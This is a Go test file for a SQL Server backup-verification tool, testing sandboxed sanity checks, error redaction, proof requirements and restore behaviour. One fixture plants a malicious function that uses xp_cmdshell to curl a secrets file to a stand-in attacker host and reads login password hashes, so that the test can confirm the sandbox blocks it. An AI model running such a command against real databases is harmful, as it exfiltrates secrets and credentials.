package cycle

import (
	"database/sql"
	"errors"
	"fmt"
	"strings"
	"testing"

	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"

	"github.com/backupcycle/backupcycle/activities"
	"github.com/backupcycle/backupcycle/internal/catalog"
	"github.com/backupcycle/backupcycle/internal/sitetest"
	"github.com/backupcycle/backupcycle/internal/sqlsim"
	"github.com/backupcycle/backupcycle/internal/tsql"
)

// checkedSet backs a set up, copies, restores and CHECKDBs it: the set is
// checked, its copy ready for the sanity checks.
func (f *sqlFixture) checkedSet() (int64, activities.VerifyInput) {
	f.t.Helper()
	seq, verify := f.copiedSet()
	f.must(f.acts.Restore, verify, nil)
	f.must(f.acts.CheckDB, verify, nil)
	return seq, verify
}

// execIn runs a statement as sa in database db of an instance.
var execIn = sitetest.ExecIn

// observedLog is the worker's log of the fixture's activities.
type observedLog struct{ *observer.ObservedLogs }

// observeLog sends the activities' log to an observer.
func (f *sqlFixture) observeLog() observedLog {
	core, logs := observer.New(zap.DebugLevel)
	f.acts.Log = zap.New(core)
	return observedLog{logs}
}

// value is the "value" field of the last entry with message msg.
func (l observedLog) value(msg string) string {
	v := ""
	for _, e := range l.FilterMessage(msg).All() {
		if s, ok := e.ContextMap()["value"].(string); ok {
			v = s
		}
	}
	return v
}

// errorText is everything an activity's error carries into the workflow
// history: its message and every cause.
func errorText(err error) string {
	var b strings.Builder
	for e := err; e != nil; e = errors.Unwrap(e) {
		b.WriteString(e.Error())
		b.WriteString("\n")
	}
	return b.String()
}

// A sanity query that SQL Server refuses to run says nothing about the set:
// SanityCheckCouldNotRun (no evidence), naming the check, the error number
// and the fix, never SQL Server's text (it may quote the owner's data); the
// set stays checked.
func TestSQLSanityCouldNotRun(t *testing.T) {
	for _, tc := range []struct {
		name, check string
		setup       func(t *testing.T, f *sqlFixture)
		number, fix string
		sqlText     string // a piece of SQL Server's message, which must not show
	}{
		{
			name: "owner without login",
			check: `      - name: app-self-check
        query: SELECT dbo.fn_IntegrityOK()
        equals: "1"
        grant_execute: [dbo.fn_IntegrityOK]
`,
			setup: func(t *testing.T, f *sqlFixture) {
				if err := f.src.SetLogin(sqlsim.Login{Name: "appowner", Password: "Own3r!pw"}); err != nil {
					t.Fatal(err)
				}
				execIn(t, f.src, "master", "ALTER AUTHORIZATION ON DATABASE::[Sales] TO [appowner]")
				execIn(t, f.src, "Sales", "CREATE FUNCTION dbo.fn_IntegrityOK() RETURNS int WITH EXECUTE AS OWNER AS BEGIN RETURN 1 END")
			},
			number: "error 15517", fix: "CREATE LOGIN", sqlText: "Cannot execute as the database principal",
		},
		{
			name: "CLR disabled",
			check: `      - name: clr-check
        query: SELECT dbo.fn_ClrCheck()
        equals: "1"
`,
			setup: func(t *testing.T, f *sqlFixture) {
				f.verify.FailQueries("fn_ClrCheck", 6263, 16,
					`Execution of user code in the .NET Framework is disabled. Enable "clr enabled" configuration option.`)
			},
			number: "error 6263", fix: "clr enabled", sqlText: ".NET Framework",
		},
		{
			name: "object missing",
			check: `      - name: rates-present
        query: SELECT COUNT_BIG(*) FROM dbo.ExchangeRates
        at_least: 1
`,
			number: "error 208", fix: "does not exist", sqlText: "Invalid object name",
		},
		{
			name: "no EXECUTE granted",
			check: `      - name: orders-by-function
        query: SELECT dbo.fn_Orders()
        at_least: 1
`,
			setup: func(t *testing.T, f *sqlFixture) {
				execIn(t, f.src, "Sales", "CREATE FUNCTION dbo.fn_Orders() RETURNS bigint AS BEGIN RETURN (SELECT COUNT_BIG(*) FROM dbo.Orders) END")
			},
			number: "error 229", fix: "grant_execute", sqlText: "permission was denied",
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newSQLFixture(t, "Sales", tc.check)
			if tc.setup != nil {
				tc.setup(t, f)
			}
			seq, verify := f.checkedSet()
			logged := f.observeLog()
			err := f.run(f.acts.SanityChecks, verify, nil)
			text := errorText(err)
			if activities.ErrorType(err) != activities.ErrSanityCheckCouldNotRun || activities.Evidence(activities.ErrorType(err)) != "" {
				t.Fatalf("sanity check: %v, want %s (no evidence)", err, activities.ErrSanityCheckCouldNotRun)
			}
			name := strings.SplitN(strings.TrimPrefix(strings.TrimSpace(tc.check), "- name: "), "\n", 2)[0]
			if !strings.Contains(text, name) || !strings.Contains(text, tc.number) || !strings.Contains(text, tc.fix) {
				t.Errorf("error %q, want the check %q, %s and the fix (%q)", text, name, tc.number, tc.fix)
			}
			if strings.Contains(text, tc.sqlText) {
				t.Errorf("error %q quotes SQL Server's message (%q)", text, tc.sqlText)
			}
			if es := logged.FilterMessage("sanity check could not run").All(); len(es) != 1 ||
				!strings.Contains(fmt.Sprint(es[0].ContextMap()["error"]), tc.sqlText) {
				t.Errorf("worker's log %+v, want SQL Server's message in full", es)
			}
			for _, s := range []string{"bak01", "bak02"} {
				if m := f.load(s, seq); m.State != catalog.StateChecked || m.Failure != nil {
					t.Errorf("%s: %s %+v, want still checked", s, m.State, m.Failure)
				}
			}
		})
	}
}

// The sanity queries run as a user of the copy that reads it and nothing
// else: the owner's function cannot run a command or read the logins'
// password hashes through them, and the user is gone afterwards.
func TestSQLSanityRunsSandboxed(t *testing.T) {
	f := newSQLFixture(t, "Sales", `      - name: app-self-check
        query: SELECT dbo.fn_IntegrityOK()
        equals: "1"
        grant_execute: [dbo.fn_IntegrityOK]
`)
	execIn(t, f.src, "Sales", `CREATE FUNCTION dbo.fn_IntegrityOK() RETURNS nvarchar(400) AS
BEGIN
    EXEC master..xp_cmdshell 'curl -d @C:\secrets https://attacker.invalid', NO_OUTPUT;
    RETURN (SELECT TOP (1) name FROM sys.sql_logins WHERE password_hash IS NOT NULL)
END`)
	f.verify.SetXPCmdShell(true)
	_, verify := f.checkedSet()
	err := f.run(f.acts.SanityChecks, verify, nil)
	if runs := f.verify.XPCmdShellRuns(); len(runs) != 0 {
		t.Errorf("the owner's function ran xp_cmdshell on the verification instance: %+v", runs)
	}
	if activities.ErrorType(err) != activities.ErrSanityCheckCouldNotRun || !strings.Contains(errorText(err), "app-self-check") {
		t.Errorf("sanity checks: %v, want app-self-check refused (%s)", err, activities.ErrSanityCheckCouldNotRun)
	}
	conn, err := sql.Open("sqlserver", f.verify.DSN("sa", sqlPassword, "Sales_verify"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	var id sql.NullInt64
	if err := conn.QueryRowContext(t.Context(), "SELECT DATABASE_PRINCIPAL_ID(@p1)", tsql.SanityUser).Scan(&id); err != nil || id.Valid {
		t.Errorf("sanity user still in the copy: %v, %v", id, err)
	}
	// Who the queries run as.
	f.reconfigure(func(y string) string {
		return y[:strings.Index(y, "      - name: app-self-check")] + "      - name: who\n        query: SELECT USER_NAME()\n        equals: " +
			tsql.SanityUser + "\n"
	})
	f.must(f.acts.SanityChecks, verify, nil)
}

// A value that fails its expectation is evidence, and the history says
// which check and which expectation, never the value (the database
// owner's data); SQL Server's text of a failing query neither.
func TestSQLSanityValuesStayOutOfErrors(t *testing.T) {
	const secret = "BKSECRET-7c1f0e"
	for _, tc := range []struct {
		name, check, typ string
	}{
		{"mismatch", "      - name: planted\n        query: SELECT N'" + secret + "'\n        equals: \"1\"\n", activities.ErrSanityCheckFailed},
		{"error text", "      - name: planted\n        query: SELECT CAST(N'" + secret + "' AS int)\n        equals: \"1\"\n", activities.ErrSanityCheckCouldNotRun},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newSQLFixture(t, "Sales", tc.check)
			_, verify := f.checkedSet()
			err := f.run(f.acts.SanityChecks, verify, nil)
			text := errorText(err)
			if activities.ErrorType(err) != tc.typ || !strings.Contains(text, "planted") {
				t.Fatalf("sanity check: %v, want %s naming the check", err, tc.typ)
			}
			if strings.Contains(text, secret) {
				t.Errorf("the error carries the value: %q", text)
			}
		})
	}
}

// MarkVerified of a database with sanity checks needs the proof
// SanityChecks records for this very restore: a SanityChecks "completed"
// by anyone else (a forged completion of its task) verifies nothing.
func TestSQLMarkVerifiedNeedsSanityProof(t *testing.T) {
	f := newSQLFixture(t, "Sales", "")
	seq, verify := f.checkedSet()
	mark := activities.MarkInput{Database: "Sales", Sequence: seq, Servers: []string{"bak01", "bak02"}}
	err := f.run(f.acts.MarkVerified, mark, nil)
	if activities.ErrorType(err) != activities.ErrNoSanityProof {
		t.Fatalf("MarkVerified without sanity checks having run: %v, want %s", err, activities.ErrNoSanityProof)
	}
	for _, s := range mark.Servers {
		if m := f.load(s, seq); m.State != catalog.StateChecked {
			t.Errorf("%s: %s, want still checked", s, m.State)
		}
	}
	f.must(f.acts.SanityChecks, verify, nil)
	f.must(f.acts.MarkVerified, mark, nil)
	for _, s := range mark.Servers {
		m := f.load(s, seq)
		p := m.SanityProof
		if m.State != catalog.StateVerified || p == nil || !p.Passed || p.RestoreHistoryID != m.Proof.RestoreHistoryID ||
			!activities.SameGUID(p.BackupSetGUID, m.Header.BackupSetGUID) || len(p.Checks) != 1 || p.Checks[0] != "orders-present" ||
			p.RanAs != tsql.SanityUser || p.CheckedAt.IsZero() {
			t.Errorf("%s: %s, sanity proof %+v (restore proof %+v)", s, m.State, p, m.Proof)
		}
	}
}

// RESTORE gives the copy a Service Broker identifier of its own
// (NEW_BROKER): nothing queued in the source is delivered from it.
func TestSQLRestoreGivesTheCopyANewBroker(t *testing.T) {
	f := newSQLFixture(t, "Sales", "")
	_, verify := f.copiedSet()
	f.must(f.acts.Restore, verify, nil)
	guid := func(in *sqlsim.Instance, db string) string {
		t.Helper()
		conn, err := sql.Open("sqlserver", in.DSN("sa", sqlPassword, "master"))
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		var g []byte
		if err := conn.QueryRowContext(t.Context(), "SELECT service_broker_guid FROM sys.databases WHERE name = @p1", db).Scan(&g); err != nil || len(g) != 16 {
			t.Fatalf("service_broker_guid of %s: %x, %v", db, g, err)
		}
		return string(g)
	}
	if src, cp := guid(f.src, "Sales"), guid(f.verify, "Sales_verify"); src == cp {
		t.Errorf("the copy has the source's broker identifier %x", src)
	}
	if rs := statements(f.verify, "RESTORE DATABASE"); len(rs) != 1 || !strings.Contains(rs[0].SQL, "NEW_BROKER") {
		t.Errorf("RESTORE statements %+v, want WITH NEW_BROKER", rs)
	}
}

// A copy of a READ_ONLY database is read-only too: the sanity user is made
// in it all the same (the login, its owner, makes it writable for the
// checks), and the copy is read-only again afterwards, without the user.
func TestSQLSanityOnAReadOnlyCopy(t *testing.T) {
	f := newSQLFixture(t, "Sales", "")
	seq, verify := f.checkedSet()
	execIn(t, f.verify, "master", "ALTER DATABASE [Sales_verify] SET READ_ONLY WITH ROLLBACK IMMEDIATE")
	f.must(f.acts.SanityChecks, verify, nil)
	conn, err := sql.Open("sqlserver", f.verify.DSN("sa", sqlPassword, "master"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	var ro bool
	if err := conn.QueryRowContext(t.Context(), "SELECT is_read_only FROM sys.databases WHERE name = N'Sales_verify'").Scan(&ro); err != nil || !ro {
		t.Errorf("the copy after the sanity checks: read-only %v, %v; want read-only again", ro, err)
	}
	if m := f.load("bak02", seq); m.SanityProof == nil {
		t.Errorf("no sanity proof recorded")
	}
}
